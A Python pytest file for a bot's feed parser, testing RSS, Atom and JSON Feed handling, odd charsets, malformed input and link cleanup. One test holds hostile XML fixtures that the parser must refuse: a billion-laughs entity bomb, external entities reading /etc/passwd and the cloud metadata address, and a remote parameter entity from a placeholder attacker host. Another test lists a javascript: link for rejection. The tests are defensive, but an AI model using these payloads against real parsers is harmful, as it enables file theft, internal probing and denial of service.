"""Feeds of every kind, and what only looks like one."""

import pytest

from bot.sources.feed_items import Feed, FeedItem, page_address
from bot.sources.feeds import NoFeed, parse_feed
from bot.sources.xml_guard import refusal_of_xml
from tests.sources.papers import ATOM, BILLION_LAUGHS, EXTERNAL_ENTITY, JSON_FEED, index_page, page, rss, rss_item

ADDRESS = "https://post.example/feed"


def parse(text: str | bytes, charset: str | None = None) -> Feed | NoFeed:
    return parse_feed(text.encode() if isinstance(text, str) else text, charset=charset, address=ADDRESS)


def feed(text: str | bytes, charset: str | None = None) -> Feed:
    found = parse(text, charset)
    assert isinstance(found, Feed)
    return found


def said(item: FeedItem) -> dict[str, str]:
    assert {one.origin for one in item.said} == {"feed"}
    return {one.field: one.value for one in item.said}


def test_rss() -> None:
    extra = "<dc:creator>Mia Holt</dc:creator><source url='https://wire.example/'>Coast Wire</source>"
    read = feed(
        rss(rss_item("Crews &amp;amp; &lt;i&gt;council&lt;/i&gt;", text="<p>First.</p><p>Second.</p>", extra=extra))
    )
    assert (read.title, read.site) == ("Lerwald Post", "https://post.example/")
    [item] = read.items
    assert (item.link, item.text) == ("https://post.example/kelp", "First.\n\nSecond.")
    assert said(item) == {
        "title": "Crews & council",
        "author": "Mia Holt",
        "outlet": "Coast Wire",
        "published": "Tue, 19 Aug 2025 18:30:00 +0200",
        "language": "en",
        "url": "https://post.example/kelp",
    }


def test_the_fullest_text_of_an_item_counts() -> None:
    full = "<content:encoded><![CDATA[<h2>Part</h2><p>All of it, word for word.</p>]]></content:encoded>"
    assert feed(rss(rss_item(text="All of it…", extra=full))).items[0].text == "## Part\n\nAll of it, word for word."


@pytest.mark.parametrize(
    ("author", "name"),
    [
        ("<author>mia@post.example</author>", None),
        ("<author>mia@post.example (Mia Holt)</author>", "Mia Holt"),
        ("<author>Mia Holt &lt;mia@post.example&gt;</author>", "Mia Holt"),
        ("<author>Mia Holt</author>", "Mia Holt"),
        ("<dc:creator>Mia Holt</dc:creator>", "Mia Holt"),
        ("<dc:creator>Mia Holt and Jan Roth</dc:creator>", "Mia Holt and Jan Roth"),
        ("<a:author xmlns:a='http://www.w3.org/2005/Atom'><a:name>Mia</a:name><a:email>m@p.example</a:email></a:author>",
         "Mia"),
    ],
)  # fmt: skip
def test_mail_addresses_are_nobody_s_names(author: str, name: str | None) -> None:
    assert said(feed(rss(rss_item(extra=author))).items[0]).get("author") == name


def test_atom() -> None:
    read = feed(ATOM)
    first, second = read.items
    assert first.link == "https://post.example/kelp?id=7"
    assert first.text == "First words.\n\n- One\n- Two"
    assert said(first)["title"] == "Council & crews part"
    assert said(first)["author"] == "Mia Holt, Jan Roth"
    assert said(first)["published"] == "2025-08-19T18:30:00+02:00"
    assert said(second)["updated"] == "2025-08-18T08:00:00Z"
    assert "published" not in said(second)
    assert (second.link, second.key) == (None, "tag:post.example,2025:2")


def test_json_feed() -> None:
    read = feed(JSON_FEED)
    assert (read.title, read.site) == ("Lerwald Post", "https://post.example/")
    first, second, third = read.items
    assert (first.key, first.link, first.text) == ("7", "https://post.example/kelp", "First words.")
    assert said(first) == {
        "title": "Council & crews",
        "author": "Mia Holt",
        "published": "2025-08-19T18:30:00+02:00",
        "language": "en",
        "url": "https://post.example/kelp",
    }
    assert said(second)["author"] == "The desk"
    assert (third.link, third.text) == (None, "Summary.")


@pytest.mark.parametrize(
    ("content", "charset"),
    [
        (rss(rss_item("Café Łódź")).encode(), None),
        (rss(rss_item("Café Łódź")).encode(), "us-ascii"),
        (rss(rss_item("Café Łódź")).encode(), "no-such-charset"),
        (rss(rss_item("Café Łódź")).replace("UTF-8", "iso-8859-2").encode("iso-8859-2"), None),
        (rss(rss_item("Café Łódź")).encode("iso-8859-2"), "iso-8859-2"),
        (rss(rss_item("Café Łódź")).encode("utf-16"), None),
        (b"\xef\xbb\xbf" + rss(rss_item("Café Łódź")).encode(), None),
        (b"\n\n" + rss(rss_item("Café Łódź")).encode(), None),
    ],
)
def test_characters_are_read_whatever_is_claimed_of_them(content: bytes, charset: str | None) -> None:
    assert said(feed(content, charset).items[0])["title"] == "Café Łódź"


@pytest.mark.parametrize(
    "text",
    [
        rss(rss_item("Fish & chips")),
        rss(rss_item("A")).replace("</channel></rss>", ""),
        rss(rss_item("A"), rss_item("B")).replace("</item>", "", 1),
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.example/rss-0.91.dtd"><rss version="0.91">'
        "<channel><title>T</title><item><title>A</title></item></channel></rss>",
        rss(rss_item("A", extra="<thing:unknown>x</thing:unknown>")),
    ],
)
def test_small_faults_are_overlooked(text: str) -> None:
    assert feed(text).items


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "is empty"),
        (" \n", "is empty"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "is not text"),
        ("Just some words.", "is not a feed"),
        ("<opml version='2.0'><body/></opml>", "is not a feed"),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>", "is not a feed"),
        ('{"title": "no feed"}', "is JSON, but not a JSON Feed"),
        ('{"version": "https://jsonfeed.org/version/1", "items": 7}', "is JSON, but not a JSON Feed"),
        ('{"version": ' * 50_000, "is JSON, but not a JSON Feed"),
        ("<rss version='2.0'><channel>" + "<item>" * 300_000, "is built of more than 200,000 tags"),
        (page(), "is a web page, not a feed and names no feed"),
        (index_page(), "is a web page, not a feed and names no feed"),
    ],
)
def test_what_is_no_feed_says_why(text: str | bytes, reason: str) -> None:
    assert parse(text) == NoFeed(reason)


def test_a_page_hints_at_its_feed() -> None:
    links = (
        '<link rel="alternate" type="application/rss+xml" title="All" href="/all.xml">'
        '<link rel="alternate" type="application/atom+xml" href="/atom.xml">'
    )
    found = parse(page(head=links))
    assert isinstance(found, NoFeed)
    assert found.reason == "is a web page, not a feed; it names 2 feeds, such as https://post.example/all.xml"
    assert [link.url for link in found.feeds] == ["https://post.example/all.xml", "https://post.example/atom.xml"]


@pytest.mark.parametrize(
    ("reference", "shown"),
    [("&#228;", "ä"), ("&#xE4;", "ä"), ("&#x1F41F;", "\U0001f41f"), ("&#0;", "\ufffd"), ("&#xD800;", "\ufffd"),
     ("&#57343", "\ufffd"), ("&#1;", "\ufffd"), ("&#99999999999999999999;", "\ufffd"), ("&#x110000;", "\ufffd")],
)  # fmt: skip
def test_references_to_no_character_break_nothing(reference: str, shown: str) -> None:
    assert said(feed(rss(rss_item(f"a{reference}b"))).items[0])["title"] == f"a{shown}b"


def test_a_fault_of_the_library_s_costs_one_feed(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object, **more: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr("feedparser.parse", broken)
    assert parse(rss()) == NoFeed("is not a feed")


@pytest.mark.parametrize(
    "text",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY.format(target="file:///etc/passwd"),
        EXTERNAL_ENTITY.format(target="http://169.254.169.254/"),
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><rss version="2.0"/>',
        "<!doctype rss [<!entity a 'b'>]><rss",  # no XML at all, but a lenient parser might take it
        BILLION_LAUGHS.replace('<?xml version="1.0"?>', "").replace("rss", "feed"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_before_any_parser_sees_them(text: str, encoding: str) -> None:
    assert parse(text.encode(encoding)) == NoFeed("declares entities, which can be used to do harm")


@pytest.mark.parametrize("text", [rss(), ATOM, "<a/>", "<!DOCTYPE rss><rss/>", "words & words", "<a>&lt;!ENTITY</a>"])
def test_what_declares_nothing_is_let_through(text: str) -> None:
    assert refusal_of_xml(text) is None


@pytest.mark.parametrize(
    ("link", "address"),
    [
        ("https://post.example/a?utm_source=x&id=3", "https://post.example/a?id=3"),
        ("/a", "https://post.example/a"),
        ("a", "https://post.example/a"),
        ("//other.example/a", "https://other.example/a"),
        ("javascript:alert(1)", None),
        ("mailto:a@b.example", None),
        ("http://[half", None),
        ("", None),
        (None, None),
        ("https://post.example/" + "a" * 3000, None),
    ],
)
def test_links_become_addresses(link: str | None, address: str | None) -> None:
    assert page_address(link, ADDRESS) == address
